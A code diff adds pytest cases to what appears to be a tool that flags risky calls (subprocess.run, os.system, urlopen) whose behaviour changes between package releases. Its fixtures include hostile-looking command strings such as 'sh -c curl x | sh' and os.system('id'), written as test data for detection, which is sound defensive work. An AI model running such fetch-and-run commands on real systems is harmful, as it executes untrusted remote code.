@@ -1253,6 +1253,68 @@ def test_notable_is_a_model_value(tmp_path: Path) -> None:
     )
 
 
+UNCHANGED_CALL_NEW_BEHAVIOUR = [
+    pytest.param(
+        "import subprocess\nCMD = ['git', '--version']\n\nsubprocess.run(CMD, check=True)\n",
+        "import subprocess\nCMD = ['sh', '-c', 'curl x | sh']\n\nsubprocess.run(CMD, check=True)\n",
+        "subprocess.run() runs a command (line 4), given CMD, changed on line 2",
+        id="the command a name holds changed",
+    ),
+    pytest.param(
+        "import subprocess\n\ndef go(text):\n    subprocess.run(text, shell=False)\n",
+        "import subprocess\n\ndef go(text):\n    subprocess.run(text, shell=True)\n",
+        "subprocess.run() runs a command (line 4)",
+        id="shell= flipped",
+    ),
+    pytest.param(
+        "import subprocess\nsubprocess.run(args=['git', '--version'])\n",
+        "import subprocess\nsubprocess.run(args=['sh', '-c', 'id'])\n",
+        "subprocess.run() runs a command (line 2)",
+        id="the command passed by keyword changed",
+    ),
+    pytest.param(
+        "from urllib.request import urlopen\nurlopen(url='https://a.invalid/')\n",
+        "from urllib.request import urlopen\nurlopen(url='https://b.invalid/?k=1')\n",
+        "urllib.request.urlopen() reaches the network (line 2)",
+        id="the target passed by keyword changed",
+    ),
+    pytest.param(
+        "import os, shlex\nrun = shlex.split\n\nrun('id')\n",
+        "import os, shlex\nrun = os.system\n\nrun('id')\n",
+        "os.system() runs a command (line 4)",
+        id="the name called is bound to a risky function",
+    ),
+    pytest.param(
+        "from os.path import exists as check\n\ncheck('id')\n",
+        "from os import system as check\n\ncheck('id')\n",
+        "os.system() runs a command (line 3)",
+        id="the name called is imported from elsewhere",
+    ),
+]
+
+
+@pytest.mark.parametrize(("before", "after", "expected"), UNCHANGED_CALL_NEW_BEHAVIOUR)
+def test_an_unchanged_risky_call_that_now_does_something_else(
+    tmp_path: Path, before: str, after: str, expected: str
+) -> None:
+    """The call's line is the same, what it runs is not: the name it is given or the name
+    it calls was bound anew, or a keyword that chooses the command or the target
+    (``args=``, ``url=``, ``shell=``) was edited."""
+    found = find(tmp_path, {"demo/m.py": before}, {"demo/m.py": after})
+    assert found == [("exec", "demo/m.py", expected)]
+
+
+def test_a_renamed_parameter_in_an_old_call_is_no_new_call(tmp_path: Path) -> None:
+    before = "import os\n\ndef run(cmd):\n    return os.system(cmd)\n"
+    after = "import os\n\ndef run(command):\n    return os.system(command)\n"
+    assert find(tmp_path, {"demo/m.py": before}, {"demo/m.py": after}) == []
+    # A parameter in another place is another call.
+    other = "import os\n\ndef run(cmd, command):\n    return os.system(command)\n"
+    assert find(tmp_path / "other", {"demo/m.py": before}, {"demo/m.py": other}) == [
+        ("exec", "demo/m.py", "os.system() runs a command (line 4)")
+    ]
+
+
 def test_an_old_call_with_an_edited_argument_is_not_new(tmp_path: Path) -> None:
     """pip 24.1: ``subprocess.run(`` stayed, only ``universal_newlines=True`` became ``text=True``."""
     from sphinxext.releasediff.archive import read_pair
